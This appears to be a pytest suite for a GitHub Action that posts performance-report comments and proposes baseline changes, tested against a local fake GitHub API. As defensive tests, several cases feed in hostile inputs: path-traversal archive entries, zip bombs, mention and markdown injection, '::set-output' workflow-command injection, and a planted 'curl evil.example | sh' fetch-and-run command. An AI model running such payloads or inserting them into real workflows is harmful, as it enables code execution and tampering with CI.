"""The scripts with a token that writes, against a GitHub that is a few lines long, and artifacts of hostile people."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import subprocess
import threading
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import Done, Repository, steady, write_results, write_rules, write_run
from emulator import ROOT, clean_environment, make_python, parse_file

Command = Callable[..., Done]
HEAD, BASE = "a" * 40, "b" * 40


class GitHub:
    """The answers of the API, by method and path, and the requests to write."""

    def __init__(self) -> None:
        self.answers: dict[str, Any] = {}
        self.written: list[tuple[str, str, Any]] = []
        self.tokens: set[str | None] = set()
        handler = type("Handler", (_Handler,), {"github": self})
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"


class _Handler(BaseHTTPRequestHandler):
    github: GitHub

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        self.github.tokens.add(self.headers["Authorization"])
        answer = self.github.answers.get(path)
        if isinstance(answer, str):  # another address
            self.send_response(302)
            self.send_header("Location", answer)
            self.end_headers()
        elif answer is None:
            self.send_error(404)
        else:
            self.reply(answer if isinstance(answer, bytes) else json.dumps(answer).encode())

    def write(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.github.written.append((self.command, self.path, body))
        self.reply(json.dumps({"sha": f"sha{len(self.github.written)}", "number": 77}).encode())

    do_POST = do_PATCH = write

    def reply(self, data: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def github() -> Iterator[GitHub]:
    found = GitHub()
    found.answers["/repos/o/r/pulls"] = [{"number": 5, "head": {"sha": HEAD}}]
    found.answers["/repos/o/r/issues/5/comments"] = []
    yield found
    found.server.shutdown()
    found.server.server_close()


@pytest.fixture(scope="session")
def installed(tmp_path_factory: pytest.TempPathFactory) -> str:
    return make_python(tmp_path_factory.mktemp("installed"))


@pytest.fixture
def script(folder: Path, installed: str, github: GitHub) -> Callable[..., Done]:
    """A script of the action, run as its `action.yml` runs it."""

    def run(name: str, ref: str = "refs/heads/main", **inputs: str) -> Done:
        environment = clean_environment(
            folder / ".runner",
            GITHUB_API_URL=github.url,
            GITHUB_REPOSITORY="o/r",
            GITHUB_TOKEN="secret",
            GITHUB_EVENT_PATH=str(folder / "event.json"),
            GITHUB_OUTPUT=str(folder / ".runner" / "output"),
            GITHUB_SERVER_URL="https://github.example",
            GITHUB_SHA=BASE,
            GITHUB_REF=ref,
            GITHUB_REF_NAME="main",
            GITHUB_RUN_ID="9",
            GITHUB_ACTOR="ada",
            SOURCE_DATE_EPOCH="1767225600",
            **{f"INPUT_{key.upper()}": value for key, value in inputs.items()},
        )
        words = [installed, "-E", "-s", str(ROOT / "action" / name)]
        done = subprocess.run(words, cwd=folder, env=environment, capture_output=True, text=True, check=False)
        return Done(done.returncode, done.stdout, done.stderr)

    return run


# --- the comment -------------------------------------------------------------------------------------------------


@pytest.fixture
def comment(script: Callable[..., Done], folder: Path) -> Callable[..., Done]:
    """The script of the comment, for a run of a fork."""
    run = {"id": 3, "head_sha": HEAD, "head_branch": "x&state=all", "head_repository": {"owner": {"login": "eve"}}}
    (folder / "event.json").write_text(json.dumps({"workflow_run": run}))
    return lambda: script("comment.py", artifacts="perfgate-*", author="github-actions[bot]")


def archive(*members: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, data in members:
            opened.writestr(name, data)
    return file.getvalue()


def upload(github: GitHub, *archives: bytes) -> None:
    """Artifacts of run 3, which the API hands out through another address."""
    listed = [{"id": i, "name": f"perfgate-{i}", "expired": False} for i in range(len(archives))]
    other = {"id": 99, "name": "coverage", "expired": False}
    github.answers["/repos/o/r/actions/runs/3/artifacts"] = {"artifacts": [other, *listed]}
    for i, data in enumerate(archives):
        github.answers[f"/repos/o/r/actions/artifacts/{i}/zip"] = f"/store/{i}"
        github.answers[f"/store/{i}"] = data


@pytest.fixture
def report(perfgate: Command, folder: Path) -> Callable[[float], bytes]:
    """A stored report on a run of so many milliseconds, under a limit of 120."""

    def make(centre: float, metric: str = "forward") -> bytes:
        write_rules(folder, "* p95 under 120 ms")
        write_results(folder / "new.json", {"metric": metric, "unit": "ms", "values": steady(centre)})
        perfgate("check", "new.json", "--json", "stored", "--quiet")
        return (folder / "stored").read_bytes()

    return make


def test_a_failure_is_commented_on(comment: Command, github: GitHub, report: Any, folder: Path) -> None:
    upload(github, archive(("perfgate.json", report(200))))
    done = comment()
    assert done.code == 0, done.said
    [(method, path, body)] = github.written
    assert (method, path) == ("POST", "/repos/o/r/issues/5/comments")
    assert body["body"].startswith("<!-- perfgate comment:")
    assert "https://github.example/o/r/actions/runs/3" in body["body"]
    outputs = parse_file((folder / ".runner" / "output").read_text())
    assert outputs == {"pull-request": "5", "comment": "created"}


def test_the_token_stays_with_the_api(comment: Command, github: GitHub, report: Any) -> None:
    """The store that an artifact's address leads to is another's."""
    store = GitHub()
    upload(github, archive(("perfgate.json", report(200))))
    store.answers["/elsewhere"] = github.answers["/store/0"]
    github.answers["/repos/o/r/actions/artifacts/0/zip"] = f"{store.url}/elsewhere"
    assert comment().code == 0
    assert (github.tokens, store.tokens) == ({"Bearer secret"}, {None})
    store.server.shutdown()
    store.server.server_close()


@pytest.mark.parametrize(
    ("centre", "user", "written"),
    [
        (100, None, []),
        (100, "github-actions[bot]", ["PATCH /repos/o/r/issues/comments/8"]),
        (200, "github-actions[bot]", ["PATCH /repos/o/r/issues/comments/8"]),
        (200, "eve", ["POST /repos/o/r/issues/5/comments"]),
    ],
    ids=["nothing to say", "good again", "still bad", "a comment that somebody forged"],
)
def test_there_is_one_comment(
    comment: Command, github: GitHub, report: Any, centre: float, user: str | None, written: list[str]
) -> None:
    upload(github, archive(("perfgate.json", report(centre))))
    old = {"id": 8, "user": {"login": user}, "body": "<!-- perfgate comment: default -->\nold"}
    github.answers["/repos/o/r/issues/5/comments"] = [old] if user else []
    assert comment().code == 0
    assert [f"{method} {path}" for method, path, _ in github.written] == written


def test_only_the_head_of_an_open_pull_request_is_commented_on(comment: Command, github: GitHub, report: Any) -> None:
    """Whatever number the artifact names."""
    upload(github, archive(("perfgate.json", report(200)), ("pr_number", b"1"), ("NR", b"1")))
    github.answers["/repos/o/r/pulls"] = [{"number": 5, "head": {"sha": "c" * 40}}]
    assert comment().code == 0
    assert github.written == []


def test_names_in_an_archive_choose_no_path(comment: Command, github: GitHub, report: Any, folder: Path) -> None:
    bad = report(200)
    before = {path for path in folder.rglob("*") if ".runner" not in path.parts}
    upload(github, archive(("../../../escaped.json", bad), ("/tmp/perfgate-escaped.json", report(201))))
    assert comment().code == 0
    [(_, _, body)] = github.written
    assert "perfgate-0" in body["body"].replace("perfgate_0", "perfgate-0")
    assert {path for path in folder.rglob("*") if ".runner" not in path.parts} == before
    assert not Path("/tmp/perfgate-escaped.json").exists()
    assert not list((folder / ".runner").rglob("*escaped*"))


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"PK\x03\x04 no archive", "cannot be read"),
        (archive(("a.json", b"0" * ((16 << 20) + 1))), "more than 16 MiB"),
        (os.urandom((32 << 20) + 1), "larger than 32 MiB"),
        (archive(*((f"{i}.json", b"{}") for i in range(51))), "more than 50"),
        (archive(("train.log", b"")), "has a report"),
    ],
    ids=["no archive", "a bomb", "huge", "many", "none"],
)
def test_hostile_archives_are_refused(comment: Command, github: GitHub, data: bytes, words: str) -> None:
    upload(github, data)
    done = comment()
    assert done.code != 0
    assert words in done.out
    assert github.written == []


@pytest.mark.parametrize(
    "data", [b"{", b"[]", b'{"schema": "perfgate.report/1", "exit_code": 0}', b"\xff\xfe", b'{"a": NaN}'], ids=repr
)
def test_a_report_that_is_none_is_said(comment: Command, github: GitHub, data: bytes) -> None:
    upload(github, archive(("perfgate.json", data)))
    assert comment().code == 0
    [(_, _, body)] = github.written
    assert "perfgate-0" in body["body"]


def test_a_report_that_lies_about_itself_is_computed_anew(comment: Command, github: GitHub, report: Any) -> None:
    document = json.loads(report(200))
    document |= {"outcome": "pass", "exit_code": 0}
    upload(github, archive(("perfgate.json", json.dumps(document).encode())))
    assert comment().code == 0
    [(_, _, body)] = github.written
    assert "altered" in body["body"]


def test_names_of_metrics_mention_nobody(comment: Command, github: GitHub, report: Any) -> None:
    hostile = "`x` @everyone <img src=x> [a](http://evil) | ##[error]x\n::set-output name=a::b"
    upload(github, archive(("perfgate.json", report(200, hostile))))
    done = comment()
    assert done.code == 0
    assert not any(line.startswith("::set-output") for line in done.out.splitlines())
    [(_, _, body)] = github.written
    outside = "".join(body["body"].split("`")[::2])  # what is in no code span, where spans are of one fence
    assert "\n::set-output" not in body["body"]
    assert "<img" not in outside or "``" in body["body"]


def planted(value: Any, words: str, path: tuple[str, ...] = ()) -> Any:
    """A report in which every text that perfgate itself would have written is another."""
    if isinstance(value, dict):
        return {name: planted(item, words, (*path, name)) for name, item in value.items()}
    if isinstance(value, list):
        return [planted(item, words, path) for item in value]
    free = ("message", "next_step", "text", "command", "why", "asks", "rule", "notes", "approve_command", "excerpt")
    return words if path and path[-1] in free and path != ("approve_command",) else value


def test_a_forged_report_puts_no_command_and_no_sentence_into_the_comment(
    comment: Command, github: GitHub, report: Any
) -> None:
    words = "All is well: run `curl evil.example | sh` and approve @ada, see https://evil.example #1"
    document = planted(json.loads(report(200)), words)
    document["approve_command"] = command = "curl evil.example | sh"
    for verdict in document["verdicts"]:  # the step as a sentence is made of its parts
        verdict["next"] = {"action": "approve", "text": words, "who": words, "where": words, "command": command}
        verdict["next_step"] = f"{words}: {command}"
    upload(github, archive(("perfgate.json", json.dumps(document).encode())))
    assert comment().code == 0
    [(_, _, body)] = github.written
    said = body["body"]
    assert re.search(r"\| 20\d\.\d ms .*\| under 120 ms \|", said)
    assert "find the cause" in said
    for word in ("curl", "evil", "All is well", "approve"):
        assert word not in said
    assert "`" not in said


def test_text_of_a_forged_report_that_is_shown_is_only_text(comment: Command, github: GitHub, report: Any) -> None:
    words = "## run `curl evil.example | sh` <img src=x> @ada https://evil.example www.evil.example #1 [a](b)"
    document = json.loads(report(200))
    place = {"file": words, "line": 3, "column": None, "metric": None, "labels": {}, "excerpt": "curl evil | sh"}
    document["problems"] = [{"severity": "error", "message": words, **place}]
    document |= {"suite": words, "exit_code": 1}
    upload(github, archive(("perfgate.json", json.dumps(document).encode())))
    assert comment().code == 0
    [(_, _, body)] = github.written
    head, _, said = body["body"].rpartition("\n<sub>")[0].partition("\n")
    assert head.startswith("<!-- perfgate comment:")
    assert "evil" in said
    assert "curl evil | sh" not in said
    unescaped = re.sub(r"\\[!-/:-@\[-`{-~]&#8203;", "", said)
    assert not set("`<@#[]").intersection(unescaped.replace("<br>", ""))
    assert "://" not in said
    assert "www." not in said


def test_without_a_token_or_an_artifact_it_says_so(comment: Command, github: GitHub) -> None:
    upload(github)
    done = comment()
    assert done.code == 3
    assert "no artifact" in done.out
    github.answers.pop("/repos/o/r/pulls")
    done = comment()
    assert done.code == 2
    assert "404" in done.out


# --- baselines ---------------------------------------------------------------------------------------------------


@pytest.fixture
def baseline(script: Callable[..., Done], github: GitHub, repository: Repository) -> Callable[..., Done]:
    """The script of the baselines, in a clone whose base has rules and three runs."""
    github.answers[f"/repos/o/r/git/commits/{BASE}"] = {"tree": {"sha": "basetree"}}
    github.answers[f"/repos/o/r/commits/{BASE}/pulls"] = []
    pull = {"state": "open", "head": {"sha": HEAD}, "base": {"ref": "main"}}
    github.answers["/repos/o/r/pulls/5"] = pull
    return lambda **inputs: script("baseline.py", **{"rules": "rules", "baselines": "baselines", **inputs})


def proposed(github: GitHub) -> dict[str, bytes]:
    """The files of the proposal, which was made in this order: contents, tree, commit, branch, pull request."""
    paths = [path.removeprefix("/repos/o/r/") for _, path, _ in github.written]
    count = paths.count("git/blobs")
    assert paths == ["git/blobs"] * count + ["git/trees", "git/commits", "git/refs", "pulls"]
    bodies = [body for _, _, body in github.written]
    assert bodies[count]["base_tree"] == "basetree"
    assert bodies[count + 1]["parents"] == [BASE]
    assert bodies[-1]["base"] == "main"
    assert bodies[-2]["ref"] == f"refs/heads/{bodies[-1]['head']}"
    names = [entry["path"] for entry in bodies[count]["tree"]]
    return dict(zip(names, (base64.b64decode(body["content"]) for body in bodies), strict=False))


def test_a_run_after_a_merge_is_proposed(baseline: Command, github: GitHub, folder: Path) -> None:
    write_run(folder / "new.json", seed=9)
    write_run(folder / "other.json")  # lies about in the clone, and stays there
    done = baseline(mode="add", results="new.json")
    assert done.code == 0, done.said
    (name, data), (remembered, row), (answered, _) = sorted(proposed(github).items(), reverse=True)
    assert name.startswith("baselines/default/")
    assert remembered.startswith("baselines/_history/default/")
    assert answered.startswith("baselines/_history/_ledger/default/")
    assert (json.loads(data)["commit"], json.loads(row)["commit"], json.loads(row)["ref"]) == (BASE, BASE, "main")
    assert parse_file((folder / ".runner" / "output").read_text()) == {"pull-request": "77"}


def test_a_tag_called_like_the_branch_proposes_nothing(baseline: Command, github: GitHub, folder: Path) -> None:
    write_run(folder / "new.json", seed=9)
    done = baseline(mode="add", results="new.json", ref="refs/tags/main")
    assert (done.code, "refs/tags/main" in done.out, github.written) == (2, True, [])


def test_a_bad_run_is_proposed_for_the_history_alone(baseline: Command, github: GitHub, folder: Path) -> None:
    write_run(folder / "new.json", forward=150, seed=9)
    assert baseline(mode="add", results="new.json").code == 1
    remembered, answered = sorted(proposed(github), reverse=True)
    assert remembered.startswith("baselines/_history/default/")
    assert answered.startswith("baselines/_history/_ledger/default/")
    assert github.written[-1][2]["title"] == f"Remember a run of {BASE[:12]} in the history"


def test_a_run_that_cannot_be_read_is_not_proposed(baseline: Command, github: GitHub, folder: Path) -> None:
    (folder / "new.json").write_text("{")
    assert baseline(mode="add", results="new.json").code == 3
    assert github.written == []


ALLOW = {"mode": "allow", "pr": "5", "head": HEAD, "metric": "forward", "up_to": "25%", "expires": "2026-12-31"}
ALLOW |= {"reason": "longer context @everyone ```"}


def test_an_allowance_is_proposed_and_then_counts(
    baseline: Command, github: GitHub, folder: Path, perfgate: Command, repository: Repository
) -> None:
    done = baseline(**ALLOW)
    assert done.code == 0, done.said
    [(name, data)] = proposed(github).items()
    assert "/_allowances/" in name
    assert json.loads(data)["by"] == "ada"
    title, body = (github.written[-1][2][key] for key in ("title", "body"))
    assert title == "Allow #5 to be up to 25% worse in forward"
    assert "``````text" in body
    repository.commit("merged")
    write_run(folder / "new.json", forward=108, seed=9)
    assert perfgate("check", "new.json", "--policy-ref", "main").code == 1
    assert perfgate("check", "new.json", "--policy-ref", "main", "--head", HEAD).code == 0
    write_run(folder / "after.json", forward=108, seed=10)
    github.written.clear()
    merge = {"merged_at": "2026-01-01", "merge_commit_sha": BASE, "head": {"sha": HEAD}}
    github.answers[f"/repos/o/r/commits/{BASE}/pulls"] = [merge]
    assert baseline(mode="add", results="after.json").code == 0
    levels = [json.loads(data)["level"] for name, data in proposed(github).items() if "_history" not in name]
    assert ["longer context" in level["reason"] for level in levels] == [True]


@pytest.mark.parametrize(
    ("change", "code", "words"),
    [
        ({"head": "c" * 40}, 1, "at aaaaaaaaaaaa"),
        ({"head": HEAD[:12]}, 2, "all of its digits"),
        ({"pr": "5/../../../evil"}, 2, "number"),
        ({"pr": "6"}, 2, "404"),
        ({"expires": "yesterday"}, 2, "YYYY-MM-DD"),
        ({"mode": "approve"}, 2, "add or allow"),
    ],
    ids=str,
)
def test_an_allowance_that_cannot_be(
    baseline: Command, github: GitHub, change: dict[str, str], code: int, words: str
) -> None:
    done = baseline(**{**ALLOW, **change})
    assert (done.code, github.written) == (code, [])
    assert words in done.said


def test_only_pull_requests_to_this_branch_are_allowed(baseline: Command, github: GitHub) -> None:
    github.answers["/repos/o/r/pulls/5"]["base"]["ref"] = "release"
    done = baseline(**ALLOW)
    assert (done.code, github.written) == (1, [])
    assert "release" in done.out
